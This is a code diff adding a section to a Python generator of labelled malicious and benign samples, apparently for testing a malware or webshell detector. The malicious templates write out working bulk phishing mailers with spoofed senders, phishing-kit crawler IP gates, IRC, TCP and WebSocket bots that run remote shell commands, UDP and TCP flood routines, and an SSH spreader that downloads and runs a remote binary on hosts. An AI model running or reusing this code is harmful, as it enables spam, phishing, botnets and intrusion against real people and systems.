@@ -1704,6 +1704,11 @@ from sinkgen import sink_templates  # noqa: E402
 
 TEMPLATES += sink_templates(php_file)
 
+# payloads kept elsewhere, mass infectors, remote commands (tests/eval/payloadgen.py)
+from payloadgen import payload_templates  # noqa: E402
+
+TEMPLATES += payload_templates(php_file)
+
 # webshell techniques, round 4: hooks, gadget chains, wrapper includes (tests/eval/ws4gen.py)
 from ws4gen import ws4_templates  # noqa: E402
 
@@ -2853,6 +2858,435 @@ PHISH_TEMPLATES3 = [
 
 TEMPLATES += PHISH_TEMPLATES + PHISH_TEMPLATES2 + PHISH_TEMPLATES3
 # ==================================================== end of PHISHING KITS
+
+
+# ===========================================================================
+# MAILERS, PHISHING AND BOTS THAT GENERALIZE (branch loco). Invented from the
+# techniques, without opening the corpus's mailer, phishing or bot samples:
+# PHP bulk senders (raw SMTP with AUTH LOGIN, kit placeholders, relays with
+# the fields in variables, sender rotation, Symfony Mailer / Swift bulk),
+# script senders (MIME::Lite, smtplib, shell mail loops), kit gates on
+# address ranges, one-time directories in more spellings, Perl IRC bots with
+# a pipe-open runner, flood command sets, eggdrop and Node bots, SSH
+# spreaders; and their benign look-alikes.
+
+LM_PH = [("[-email-]", "[-name-]"), ("##EMAIL##", "##NAME##"), ("%%email%%", "%%user%%"), ("[[email]]", "[[name]]")]
+
+
+def lm_list(g):
+    """Where the recipients come from: a posted textarea, an upload or a posted path."""
+    r = g.rng
+    k = r.choice(["emails", "maillist", "list", "to", "leads", "targets"])
+    how = r.choice(["post", "upload", "upload_file"])
+    g.transforms.add("list:" + how)
+    if how == "post":
+        return "explode(\"\\n\", trim($_POST['%s']))" % k
+    if how == "upload":
+        return "explode(\"\\n\", file_get_contents($_FILES['%s']['tmp_name']))" % k
+    return "file($_FILES['%s']['tmp_name'], FILE_IGNORE_NEW_LINES)" % k
+
+
+def lm_raw_smtp(g):
+    r = g.rng
+    s, to, lst = g.var(), g.var(), g.var()
+    conn = r.choice(["fsockopen($_POST['host'], (int) $_POST['port'], $errno, $errstr, 15)",
+                     "stream_socket_client('tcp://' . $_POST['smtp'] . ':587', $errno, $errstr, 20)",
+                     "@fsockopen('ssl://' . $_POST['server'], 465)"])
+    w = r.choice(["fputs", "fwrite"])
+    g.transforms.add("raw:" + w)
+    body = ("%s = %s;\n%s = %s;\nif (!%s) { die('no connect'); }\nfgets(%s, 512);\n"
+            "%s(%s, \"EHLO \" . $_SERVER['SERVER_NAME'] . \"\\r\\n\");\n"
+            "%s(%s, \"AUTH LOGIN\\r\\n\");\n%s(%s, base64_encode($_POST['user']) . \"\\r\\n\");\n"
+            "%s(%s, base64_encode($_POST['pass']) . \"\\r\\n\");\n"
+            "foreach (%s as %s) {\n    %s = trim(%s);\n    if (%s == '') continue;\n"
+            "    %s(%s, \"MAIL FROM:<\" . $_POST['from'] . \">\\r\\n\");\n"
+            "    %s(%s, \"RCPT TO:<\" . %s . \">\\r\\n\");\n    %s(%s, \"DATA\\r\\n\");\n"
+            "    %s(%s, \"Subject: \" . $_POST['subject'] . \"\\r\\nTo: \" . %s . \"\\r\\n\\r\\n\" . $_POST['letter'] . \"\\r\\n.\\r\\n\");\n"
+            "    fgets(%s, 512);\n    %s\n}\n%s(%s, \"QUIT\\r\\n\");\nfclose(%s);\n"
+            % (lst, lm_list(g), s, conn, s, s, w, s, w, s, w, s, w, s, lst, to, to, to, to, w, s, w, s, to, w, s,
+               w, s, to, s, r.choice(["usleep(200000);", "sleep(1);", ""]), w, s, s))
+    return php_file(g, body)
+
+
+def lm_placeholders(g):
+    r = g.rng
+    pe, pn = r.choice(LM_PH)
+    to, i, lst, letter = g.var(), g.var(), g.var(), g.var()
+    send = r.choice(["mail(%s, $_POST['subject'], %s, $headers)", "@mail(%s, stripslashes($_POST['subject']), %s, $headers)"])
+    body = ("%s = %s;\n$headers = \"MIME-Version: 1.0\\r\\nContent-type: text/html; charset=utf-8\\r\\nFrom: \" . $_POST['from'] . \"\\r\\n\";\n"
+            "%s = 0;\nforeach (%s as %s) {\n    %s = trim(%s);\n"
+            "    %s = str_replace('%s', %s, $_POST['letter']);\n    %s = str_replace('%s', strtok(%s, '@'), %s);\n"
+            "    if (%s) { echo \"sent: \" . %s . \"<br>\"; }\n    if (++%s %% %d == 0) { sleep(%d); }\n}\n"
+            % (lst, lm_list(g), i, lst, to, to, to, letter, pe, to, letter, pn, to, letter,
+               send % (to, letter), to, i, r.choice([20, 50, 100]), r.choice([2, 5, 10])))
+    return php_file(g, body)
+
+
+def lm_relay_fields(g):
+    r = g.rng
+    to, su, bo, hd = g.var(), g.var(), g.var(), g.var()
+    dec = r.choice(["", "base64_decode", "stripslashes", "urldecode"])
+    wrap = (lambda k: "%s($_POST['%s'])" % (dec, k)) if dec else (lambda k: "$_POST['%s']" % k)
+    g.transforms.add("relay:" + (dec or "plain"))
+    body = ("if (isset($_POST['%s'])) {\n    %s = %s;\n    %s = %s;\n    %s = %s;\n"
+            "    %s = 'From: ' . $_POST['from'] . \"\\r\\nReply-To: \" . $_POST['reply'] . \"\\r\\nContent-Type: text/html\";\n"
+            "    echo @mail(%s, %s, %s, %s) ? 'ok' : 'fail';\n    exit;\n}\n"
+            % (r.choice(["to", "go", "send"]), to, wrap(r.choice(["to", "mailto", "rcpt"])), su,
+               wrap(r.choice(["subject", "subj"])), bo, wrap(r.choice(["message", "body", "letter", "msg"])), hd,
+               to, su, bo, hd))
+    return php_file(g, body)
+
+
+def lm_rotation(g):
+    r = g.rng
+    fr, sj, to = g.var(), g.var(), g.var()
+    froms = ", ".join("'%s <%s@%s>'" % (n, u, d) for n, u, d in
+                      [("Support", "support", "secure-mail.example"), ("Billing", "billing", "acct.example"),
+                       ("Service", "noreply", "notice.example")])
+    subs = ", ".join("'%s'" % s for s in ["Your account", "Action required", "Invoice %d" % r.randint(100, 999)])
+    src = r.choice(["file(__DIR__ . '/list.txt')", "file('emails.txt')", "explode(\"\\n\", $_POST['emails'])"])
+    body = ("$froms = array(%s);\n$subjects = array(%s);\nforeach (%s as %s) {\n"
+            "    %s = $froms[array_rand($froms)];\n    %s = $subjects[mt_rand(0, count($subjects) - 1)];\n"
+            "    mail(trim(%s), %s, file_get_contents('letter.html'), \"From: \" . %s . \"\\r\\nContent-Type: text/html\");\n}\n"
+            % (froms, subs, src, to, fr, sj, to, sj, fr))
+    return php_file(g, body)
+
+
+def lm_symfony_bulk(g):
+    r = g.rng
+    to, lst, m = g.var(), g.var(), g.var()
+    if r.random() < 0.5:
+        g.transforms.add("lib:symfony")
+        body = ("require __DIR__ . '/vendor/autoload.php';\nuse Symfony\\Component\\Mailer\\Mailer;\n"
+                "use Symfony\\Component\\Mailer\\Transport;\nuse Symfony\\Component\\Mime\\Email;\n"
+                "%s = new Mailer(Transport::fromDsn('smtp://' . $_POST['u'] . ':' . $_POST['p'] . '@' . $_POST['h'] . ':587'));\n"
+                "%s = %s;\nforeach (%s as %s) {\n"
+                "    %s->send((new Email())->from($_POST['from'])->to(trim(%s))->subject($_POST['subject'])->html($_POST['letter']));\n}\n"
+                % (m, lst, lm_list(g), lst, to, m, to))
+    else:
+        g.transforms.add("lib:swift")
+        body = ("require_once 'swift_required.php';\n%s = Swift_Mailer::newInstance(Swift_SmtpTransport::newInstance($_POST['h'], 25));\n"
+                "%s = %s;\nforeach (%s as %s) {\n    $msg = Swift_Message::newInstance($_POST['subject'])->setFrom($_POST['from'])"
+                "->setTo(trim(%s))->setBody($_POST['letter'], 'text/html');\n    %s->send($msg);\n}\n"
+                % (m, lst, lm_list(g), lst, to, to, m))
+    return php_file(g, body)
+
+
+def lm_perl_mimelite(g):
+    r = g.rng
+    fh = pl_var(g).upper()[:6] or "L"
+    body = ("use MIME::Lite;\nmy $list = shift || 'list.txt';\nopen(%s, '<', $list) or die;\nmy $html = do { local $/; open(my $t, '<', 'letter.html'); <$t> };\n"
+            "while (my $to = <%s>) {\n    chomp $to;\n    my $msg = MIME::Lite->new(From => '%s', To => $to, Subject => '%s', Type => 'text/html', Data => $html);\n"
+            "    $msg->send(%s);\n    sleep %d;\n}\n"
+            % (fh, fh, r.choice(["Service <no-reply@acct.example>", "support\\@bank.example"]),
+               r.choice(["Verify your account", "Payment failed"]),
+               r.choice(["", "'smtp', '%s', AuthUser => 'u', AuthPass => 'p'" % ip(r), "'sendmail', '/usr/sbin/sendmail -t'"]),
+               r.choice([0, 1, 2])))
+    return shebang(r, "pl") + body
+
+
+def lm_py_smtplib(g):
+    r = g.rng
+    body = ("import smtplib, sys, time\nfrom email.mime.multipart import MIMEMultipart\nfrom email.mime.text import MIMEText\n"
+            "srv = smtplib.SMTP_SSL(%r, 465)\nsrv.login(sys.argv[2], sys.argv[3])\n"
+            "with open(sys.argv[1]) as f:\n    for n, line in enumerate(f):\n        rcpt = line.strip()\n        if not rcpt:\n            continue\n"
+            "        msg = MIMEMultipart('alternative')\n        msg['Subject'] = %r\n        msg['From'] = %r\n        msg['To'] = rcpt\n"
+            "        msg.attach(MIMEText(open('letter.html').read().replace('{email}', rcpt), 'html'))\n"
+            "        srv.sendmail(msg['From'], rcpt, msg.as_string())\n        if n %% 50 == 49:\n            time.sleep(%d)\nsrv.quit()\n"
+            % (ip(r), r.choice(["Account locked", "Delivery failure"]), r.choice(["Security <alert@acct.example>", "DHL <info@track.example>"]),
+               r.choice([5, 30])))
+    return shebang(r, "py") + body
+
+
+def lm_sh_mail_loop(g):
+    r = g.rng
+    how = r.choice(["mail", "sendmail", "mutt"])
+    g.transforms.add("sh:" + how)
+    send = {"mail": "mail -s \"$SUBJ\" -a 'Content-Type: text/html' \"$addr\" < letter.html",
+            "sendmail": "(printf 'To: %s\\nSubject: %s\\nContent-Type: text/html\\n\\n' \"$addr\" \"$SUBJ\"; cat letter.html) | /usr/sbin/sendmail -f \"$FROM\" \"$addr\"",
+            "mutt": "mutt -e 'set content_type=text/html' -s \"$SUBJ\" -- \"$addr\" < letter.html"}[how]
+    body = ("SUBJ=%r\nFROM=%r\nLIST=${1:-list.txt}\nwhile read -r addr; do\n    [ -z \"$addr\" ] && continue\n    %s\n    sleep %d\ndone < \"$LIST\"\n"
+            % (r.choice(["Your invoice", "Account suspended"]), r.choice(["billing@pay.example", "no-reply@secure.example"]), send, r.choice([0, 1, 3])))
+    return shebang(r, "sh") + body
+
+
+# ---- benign mailers
+
+
+def lmb_contact_form(g):
+    r = g.rng
+    body = ("$errors = array();\n$name = trim($_POST['name'] ?? '');\n$email = trim($_POST['email'] ?? '');\n$message = trim($_POST['message'] ?? '');\n"
+            "if (!filter_var($email, FILTER_VALIDATE_EMAIL)) { $errors[] = 'email'; }\n"
+            "if (!$errors) {\n    $headers = 'From: website@%s' . \"\\r\\n\" . 'Reply-To: ' . str_replace(array(\"\\r\", \"\\n\"), '', $email);\n"
+            "    mail('%s', 'Contact form: ' . mb_substr($name, 0, 60), $message, $headers);\n    header('Location: /thanks.html');\n    exit;\n}\n"
+            % (r.choice(["acme.example", "bakery.example"]), r.choice(["office@acme.example", "info@bakery.example"])))
+    return php_file(g, body)
+
+
+def lmb_password_reset(g):
+    body = ("$stmt = $pdo->prepare('SELECT id, email FROM users WHERE email = ?');\n$stmt->execute(array($_POST['email']));\n"
+            "if ($u = $stmt->fetch()) {\n    $token = bin2hex(random_bytes(32));\n"
+            "    $pdo->prepare('UPDATE users SET reset_token = ?, reset_at = NOW() WHERE id = ?')->execute(array(hash('sha256', $token), $u['id']));\n"
+            "    $link = 'https://' . $_SERVER['HTTP_HOST'] . '/reset.php?t=' . $token;\n"
+            "    mail($u['email'], 'Password reset', \"Open this link within one hour:\\n\" . $link, 'From: noreply@' . $_SERVER['HTTP_HOST']);\n}\n"
+            "echo 'If the address is known, a message was sent.';\n")
+    return php_file(g, body)
+
+
+def lmb_newsletter_queue(g):
+    r = g.rng
+    body = ("if (!current_user_can('manage_options')) { wp_die('forbidden'); }\ncheck_admin_referer('acme_send');\n"
+            "$subs = $wpdb->get_results(\"SELECT email, name FROM {$wpdb->prefix}acme_subs WHERE confirmed = 1\");\n"
+            "foreach ($subs as $s) {\n    $html = str_replace(array('{name}', '{unsubscribe}'), array(esc_html($s->name), acme_unsub_link($s->email)), $tpl);\n"
+            "    wp_mail($s->email, $subject, $html, array('Content-Type: text/html'));\n    if (++$n %% %d == 0) sleep(1);\n}\n"
+            % r.choice([50, 100]))
+    return php_file(g, body)
+
+
+def lmb_alert_sh(g):
+    r = g.rng
+    body = ("ADMIN=%r\nTHRESH=%d\ndf -P | awk 'NR>1 {print $5\" \"$6}' | while read -r use mnt; do\n    pct=${use%%%%}\n"
+            "    if [ \"$pct\" -gt \"$THRESH\" ]; then\n        echo \"$(hostname): $mnt at $use\" | mail -s \"disk alert $mnt\" \"$ADMIN\"\n    fi\ndone\n"
+            % (r.choice(["ops@acme.example", "root"]), r.choice([85, 90])))
+    return shebang(r, "sh") + body
+
+
+def lmb_py_list_digest(g):
+    """A list server's digest: members from its database, one message each (Mailman-like)."""
+    body = ("import smtplib\nfrom email.message import EmailMessage\nfrom mylist.db import session, Member\n\n"
+            "def send_digest(mlist, text):\n    with smtplib.SMTP('localhost') as smtp:\n"
+            "        for member in session.query(Member).filter_by(list_id=mlist.id, digest=True):\n"
+            "            msg = EmailMessage()\n            msg['From'] = mlist.posting_address\n            msg['To'] = member.address\n"
+            "            msg['Subject'] = '[%s] digest' % mlist.name\n            msg['List-Unsubscribe'] = mlist.unsubscribe_url(member)\n"
+            "            msg.set_content(text)\n            smtp.send_message(msg)\n")
+    return shebang(g.rng, "py") + body
+
+
+# ---- phishing kits
+
+
+def lp_ip_gate(g):
+    r = g.rng
+    nets = ["66.249.", "64.233.", "66.102.", "72.14.", "74.125.", "209.85.", "216.239.", "38.100.", "207.46.",
+            "157.55.", "65.52.", "131.253.", "40.77.", "8.6.48.", "72.30.", "67.195.", "54.176.", "63.229."]
+    r.shuffle(nets)
+    pick = nets[:r.randint(8, 16)]
+    style = r.choice(["caret", "plain", "wild"])
+    g.transforms.add("ipgate:" + style)
+    fmt = {"caret": "'^%s'", "plain": "'%s'", "wild": "'%s*.*'"}[style]
+    lst = ", ".join(fmt % n for n in pick)
+    v, ip_, d = g.var(), g.var(), g.var()
+    test = r.choice(["preg_match('/' . %s . '/', %s)" % (d, ip_), "strpos(%s, rtrim(%s, '^*.')) === 0" % (ip_, d),
+                     "fnmatch(ltrim(%s, '^'), %s)" % (d, ip_)])
+    deny = r.choice(["header('HTTP/1.0 404 Not Found');\n        die('<h1>404 Not Found</h1>');",
+                     "header('Location: https://www.google.com/');\n        exit;"])
+    body = ("%s = array(%s);\n%s = $_SERVER['REMOTE_ADDR'];\nforeach (%s as %s) {\n    if (%s) {\n        %s\n    }\n}\n"
+            % (v, lst, ip_, v, d, test, deny))
+    return php_file(g, body)
+
+
+def lp_onetime2(g):
+    r = g.rng
+    rv, d, src = g.var(), g.var(), r.choice(["'page'", "'secure'", "'login'", "'files'"])
+    rnd = r.choice(["%s = rand(0, 100000000);\n%s = md5(\"%s\");\n" % (rv, d, rv),
+                    "%s = mt_rand();\n%s = substr(base64_encode(md5(%s)), 0, 12);\n" % (rv, d, rv),
+                    "%s = time() . rand();\n%s = substr(sha1(%s), 0, 10);\n" % (rv, d, rv)])
+    fn = r.choice(["recurse_copy", "xcopy", "copyDir", "cpdir"])
+    a, b, f = g.var(), g.var(), g.var()
+    copy = ("function %s(%s, %s) {\n    $h = opendir(%s);\n    @mkdir(%s);\n    while (false !== (%s = readdir($h))) {\n"
+            "        if (%s == '.' || %s == '..') continue;\n        if (is_dir(%s . '/' . %s)) { %s(%s . '/' . %s, %s . '/' . %s); }\n"
+            "        else { copy(%s . '/' . %s, %s . '/' . %s); }\n    }\n    closedir($h);\n}\n"
+            % (fn, a, b, a, b, f, f, f, a, f, fn, a, f, b, f, a, f, b, f))
+    redir = r.choice(["header(\"Location: {%s}/\");\n" % d, "header(\"Location: ./$%s/index.php\");\n" % d[1:],
+                      "echo \"<meta http-equiv='refresh' content='0; url=$%s/'>\";\n" % d[1:],
+                      "header('Refresh: 0; url=' . %s);\n" % d,
+                      "?><script>window.location.href = \"<?php echo %s; ?>/\";</script><?php\n" % d])
+    g.transforms.add("redir:%d" % ["{", "./$", "meta", "Refresh", "script"].index(
+        "{" if "{" in redir else "./$" if "./$" in redir else "meta" if "meta" in redir else "Refresh" if "Refresh" in redir else "script"))
+    return php_file(g, copy + rnd + "%s(%s, %s);\n" % (fn, src, d) + redir)
+
+
+def lpb_firewall(g):
+    r = g.rng
+    body = ("/* Plugin Name: Acme Firewall - blocks addresses listed by the site admin */\n"
+            "function acme_fw_check() {\n    global $wpdb;\n    $ip = $_SERVER['REMOTE_ADDR'];\n"
+            "    $nets = $wpdb->get_col(\"SELECT cidr FROM {$wpdb->prefix}acme_fw WHERE active = 1\");\n"
+            "    foreach ($nets as $n) {\n        if (acme_cidr_match($ip, $n)) {\n            status_header(403);\n            exit('Blocked by the site firewall');\n        }\n    }\n}\n"
+            "$acme_allow = array('%s', '127.0.0.1');\nadd_action('init', 'acme_fw_check');\n" % ip(r))
+    return php_file(g, body)
+
+
+def lpb_site_skeleton(g):
+    """A hosting panel that creates a site from a skeleton under a name the admin typed."""
+    body = ("if (!$panel->isAdmin()) { http_response_code(403); exit; }\n$name = preg_replace('/[^a-z0-9-]/', '', strtolower($_POST['site']));\n"
+            "$dir = '/srv/sites/' . $name;\nif (!is_dir($dir)) {\n    mkdir($dir, 0755, true);\n    foreach (glob('/srv/skel/*') as $f) { copy($f, $dir . '/' . basename($f)); }\n}\n"
+            "$panel->log('created ' . $name . ' at ' . time());\nheader('Location: /panel/sites.php?created=' . urlencode($name));\n")
+    return php_file(g, body)
+
+
+# ---- bots
+
+
+def lbt_perl_irc_pipe(g):
+    r = g.rng
+    srv, chan, nick = ip(r), "#" + g.ident().lower()[:6], "u" + str(r.randint(100, 9999))
+    so, cmd = pl_var(g), pl_var(g)
+    runner = r.choice(["open(my $p, \"$%s 2>&1 |\") or return;" % cmd, "open(SH, \"$%s |\") or return;" % cmd,
+                       "open(my $p, '-|', $%s) or return;" % cmd, "open(PIPE, $%s . ' 2>&1 |') or return;" % cmd])
+    g.transforms.add("runner:%s" % ("dash" if "'-|'" in runner else "concat" if " . '" in runner else "interp"))
+    fh = "$p" if "$p" in runner else ("SH" if "SH" in runner else "PIPE")
+    read = "<%s>" % fh if fh.startswith("$") is False else "<$p>"
+    body = ("use IO::Socket::INET;\nuse POSIX;\nmy $%s = IO::Socket::INET->new(PeerAddr => '%s', PeerPort => %d, Proto => 'tcp') or die;\n"
+            "print $%s \"NICK %s\\r\\n\";\nprint $%s \"USER %s 0 * :%s\\r\\n\";\n"
+            "sub run {\n    my ($to, $%s) = @_;\n    %s\n    while (my $l = %s) { print $%s \"PRIVMSG $to :$l\"; sleep 1; }\n}\n"
+            "sub parse {\n    my $line = shift;\n    if ($line =~ /^PING :(.*)/) { print $%s \"PONG :$1\\r\\n\"; return; }\n"
+            "    if ($line =~ /^:(\\S+?)!\\S+ PRIVMSG (\\S+) :%s(.*)/) { run($2, $3); }\n"
+            "    if ($line =~ / 001 /) { print $%s \"JOIN %s\\r\\n\"; }\n}\n"
+            "while (my $in = <$%s>) { $in =~ s/\\r?\\n$//; parse($in); }\n"
+            % (so, srv, r.choice([6667, 6697, 7000]), so, nick, so, nick, nick, cmd, runner, read, so, so,
+               r.choice(["!sh ", "\\.x ", "@cmd "]), so, chan, so))
+    return shebang(r, "pl") + body
+
+
+def lbt_irc_attack(g):
+    r = g.rng
+    lang = r.choice(["pl", "py"])
+    g.lang = lang
+    names = r.sample(["udpflood", "tcpflood", "httpflood", "synflood", "udp_flood", "tcp_flood"], 3)
+    if lang == "pl":
+        body = ("use IO::Socket::INET;\nuse Socket;\nmy $s = IO::Socket::INET->new(PeerAddr => '%s', PeerPort => 6667) or die;\n"
+                "print $s \"NICK b%d\\r\\nUSER b 0 * :b\\r\\nJOIN #x\\r\\n\";\n"
+                "sub %s { my ($h, $t) = @_; socket(my $u, PF_INET, SOCK_DGRAM, 17); my $e = time + $t;\n"
+                "  while (time < $e) { send($u, 'A' x 1024, 0, sockaddr_in(int(rand(65000)) + 1, inet_aton($h))); } }\n"
+                "sub %s { my ($h, $p, $t) = @_; my $e = time + $t; while (time < $e) { IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p, Proto => 'tcp'); } }\n"
+                "while (my $l = <$s>) {\n  if ($l =~ /PRIVMSG \\S+ :!%s (\\S+) (\\d+)/) { %s($1, $2); }\n"
+                "  elsif ($l =~ /PRIVMSG \\S+ :!%s (\\S+) (\\d+) (\\d+)/) { %s($1, $2, $3); }\n"
+                "  elsif ($l =~ /PRIVMSG \\S+ :!%s/) { print $s \"PRIVMSG #x :not built\\r\\n\"; }\n}\n"
+                % (ip(r), r.randint(1, 999), names[0], names[1], names[0], names[0], names[1], names[1], names[2]))
+    else:
+        body = ("import socket, time, random, threading\ns = socket.socket()\ns.connect((%r, 6667))\n"
+                "s.send(b'NICK p%d\\r\\nUSER p 0 * :p\\r\\nJOIN #y\\r\\n')\n"
+                "def %s(h, secs):\n    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    end = time.time() + secs\n"
+                "    while time.time() < end:\n        u.sendto(random._urandom(1024), (h, random.randint(1, 65535)))\n"
+                "def %s(h, port, secs):\n    end = time.time() + secs\n    while time.time() < end:\n"
+                "        try:\n            socket.create_connection((h, port), 2)\n        except OSError:\n            pass\n"
+                "while True:\n    for line in s.recv(4096).decode(errors='ignore').split('\\r\\n'):\n"
+                "        if line.startswith('PING'):\n            s.send(('PONG' + line[4:] + '\\r\\n').encode())\n"
+                "        p = line.split(' :!', 1)\n        if ' PRIVMSG ' in line and len(p) == 2:\n            a = p[1].split()\n"
+                "            if a[0] == '%s':\n                threading.Thread(target=%s, args=(a[1], int(a[2]))).start()\n"
+                "            elif a[0] == '%s':\n                threading.Thread(target=%s, args=(a[1], int(a[2]), int(a[3]))).start()\n"
+                % (ip(r), r.randint(1, 999), names[0], names[1], names[0], names[0], names[1], names[1]))
+    return shebang(r, lang) + body
+
+
+def lbt_tcl_eggdrop(g):
+    r = g.rng
+    g.lang = "tcl"
+    trig, p = r.choice(["!sh", "!x", ".run", "!cmd"]), r.choice(["sh:run", "pub_exec", "do_it", "egg:x"])
+    x = r.choice(["set out [exec {*}$text]", "catch {eval exec $text} out", "set f [open \"|$text\" r]; set out [read $f]; close $f",
+                  "set out [exec sh -c $text]"])
+    g.transforms.add("tcl:%d" % (0 if "{*}" in x else 1 if "eval" in x else 2 if "open" in x else 3))
+    body = ("bind pub - %s %s\nproc %s {nick host hand chan text} {\n    %s\n"
+            "    foreach l [split $out \"\\n\"] { putserv \"PRIVMSG $chan :$l\" }\n}\nputlog \"loaded\"\n" % (trig, p, p, x))
+    return body
+
+
+def lbt_node_bot(g):
+    r = g.rng
+    g.lang = "js"
+    kind = r.choice(["irc", "net", "ws"])
+    g.transforms.add("node:" + kind)
+    if kind == "irc":
+        body = ("const irc = require('irc');\nconst { exec } = require('child_process');\n"
+                "const c = new irc.Client('%s', 'n%d', { channels: ['#z'] });\n"
+                "c.addListener('message', function (from, to, msg) {\n  if (msg.startsWith('!x ')) {\n"
+                "    exec(msg.slice(3), (e, out) => c.say(to, String(out || e)));\n  }\n});\n" % (ip(r), r.randint(1, 999)))
+    elif kind == "net":
+        body = ("const net = require('net');\nconst cp = require('child_process');\n"
+                "const s = net.connect(%d, '%s');\ns.on('data', (d) => {\n  const cmd = d.toString().trim();\n"
+                "  cp.exec(cmd, (e, o, er) => s.write(o + er));\n});\n" % (r.choice([443, 8443, 6667]), ip(r)))
+    else:
+        body = ("const WebSocket = require('ws');\nconst { execSync } = require('child_process');\n"
+                "const ws = new WebSocket('wss://%s/c2');\nws.on('message', function (data) {\n"
+                "  let out;\n  try { out = execSync(data.toString(), { timeout: 10000 }); } catch (e) { out = String(e); }\n  ws.send(out);\n});\n" % ip(r))
+    return body
+
+
+def lbt_ssh_spread(g):
+    r = g.rng
+    u = "http://%s/%s" % (ip(r), r.choice(["b", "x86", ".k"]))
+    body = ("PASS=${2:-%s}\nfor h in $(cat ${1:-ips.txt}); do\n"
+            "    sshpass -p \"$PASS\" ssh -o StrictHostKeyChecking=no -o ConnectTimeout=5 root@$h "
+            "\"cd /tmp; wget -q %s -O .s || curl -so .s %s; chmod +x .s; nohup ./.s >/dev/null 2>&1 &\" &\ndone\nwait\n"
+            % (r.choice(["root", "123456", "admin"]), u, u))
+    return shebang(r, "sh") + body
+
+
+# ---- benign bots and tools
+
+
+def lbtb_irc_notify(g):
+    r = g.rng
+    body = ("use IO::Socket::INET;\nmy $log = shift || '/var/log/deploy.log';\n"
+            "my $s = IO::Socket::INET->new(PeerAddr => 'irc.libera.chat', PeerPort => 6667) or die;\n"
+            "print $s \"NICK deploybot\\r\\nUSER deploybot 0 * :deploy notices\\r\\nJOIN #acme-ops\\r\\n\";\n"
+            "open(LOG, \"tail -F $log |\") or die;\nwhile (my $l = <LOG>) {\n    chomp $l;\n    print $s \"PRIVMSG #acme-ops :$l\\r\\n\";\n}\n")
+    return shebang(r, "pl") + body
+
+
+def lbtb_tcl_uptime(g):
+    g.lang = "tcl"
+    return ("bind pub - !uptime pub:uptime\nproc pub:uptime {nick host hand chan text} {\n"
+            "    set u [exec uptime]\n    putserv \"PRIVMSG $chan :$u\"\n}\n"
+            "bind pub - !flood pub:floodinfo\nproc pub:floodinfo {nick host hand chan text} {\n"
+            "    putserv \"PRIVMSG $chan :flood protection is on (5 lines / 10 s)\"\n}\n")
+
+
+def lbtb_node_deploy_hook(g):
+    g.lang = "js"
+    return ("const http = require('http');\nconst { execFile } = require('child_process');\n"
+            "http.createServer((req, res) => {\n  req.on('data', () => {});\n  req.on('end', () => {\n"
+            "    if (req.headers['x-hub-signature-256'] !== expected(req)) { res.writeHead(403); return res.end(); }\n"
+            "    execFile('/usr/local/bin/deploy.sh', ['main'], (e) => { res.end(e ? 'fail' : 'ok'); });\n  });\n}).listen(9000);\n")
+
+
+def lbtb_fleet_upgrade(g):
+    r = g.rng
+    body = ("# upgrade every host of the inventory, one at a time\nfor h in $(grep -v '^#' /etc/acme/hosts); do\n"
+            "    echo \"== $h\"\n    ssh -o BatchMode=yes \"deploy@$h\" 'sudo apt-get -q update && sudo apt-get -qy upgrade' || echo \"$h failed\" >&2\ndone\n")
+    return shebang(r, "sh") + body
+
+
+LOCO_TEMPLATES = [
+    ("loco_raw_smtp", lm_raw_smtp, "malicious", "php", "high"),
+    ("loco_placeholders", lm_placeholders, "malicious", "php", "any"),
+    ("loco_relay_fields", lm_relay_fields, "malicious", "php", "any"),
+    ("loco_rotation", lm_rotation, "malicious", "php", "any"),
+    ("loco_symfony_swift_bulk", lm_symfony_bulk, "malicious", "php", "any"),
+    ("loco_perl_mimelite", lm_perl_mimelite, "malicious", "pl", "any"),
+    ("loco_py_smtplib", lm_py_smtplib, "malicious", "py", "any"),
+    ("loco_sh_mail_loop", lm_sh_mail_loop, "malicious", "sh", "any"),
+    ("loco_contact_form", lmb_contact_form, "benign", "php", "none"),
+    ("loco_password_reset", lmb_password_reset, "benign", "php", "none"),
+    ("loco_newsletter_queue", lmb_newsletter_queue, "benign", "php", "none"),
+    ("loco_alert_sh", lmb_alert_sh, "benign", "sh", "none"),
+    ("loco_list_digest", lmb_py_list_digest, "benign", "py", "none"),
+    ("loco_ip_gate", lp_ip_gate, "malicious", "php", "any"),
+    ("loco_onetime2", lp_onetime2, "malicious", "php", "any"),
+    ("loco_firewall_plugin", lpb_firewall, "benign", "php", "none"),
+    ("loco_site_skeleton", lpb_site_skeleton, "benign", "php", "none"),
+    ("loco_perl_irc_pipe", lbt_perl_irc_pipe, "malicious", "pl", "high"),
+    ("loco_irc_attack", lbt_irc_attack, "malicious", "pl", "high"),
+    ("loco_tcl_eggdrop", lbt_tcl_eggdrop, "malicious", "tcl", "high"),
+    ("loco_node_bot", lbt_node_bot, "malicious", "js", "high"),
+    ("loco_ssh_spread", lbt_ssh_spread, "malicious", "sh", "any"),
+    ("loco_irc_notify", lbtb_irc_notify, "benign", "pl", "none"),
+    ("loco_tcl_uptime", lbtb_tcl_uptime, "benign", "tcl", "none"),
+    ("loco_node_deploy_hook", lbtb_node_deploy_hook, "benign", "js", "none"),
+    ("loco_fleet_upgrade", lbtb_fleet_upgrade, "benign", "sh", "none"),
+]
+TEMPLATES += LOCO_TEMPLATES
+# ==================================================== end of LOCO section
 
 
 if __name__ == "__main__":
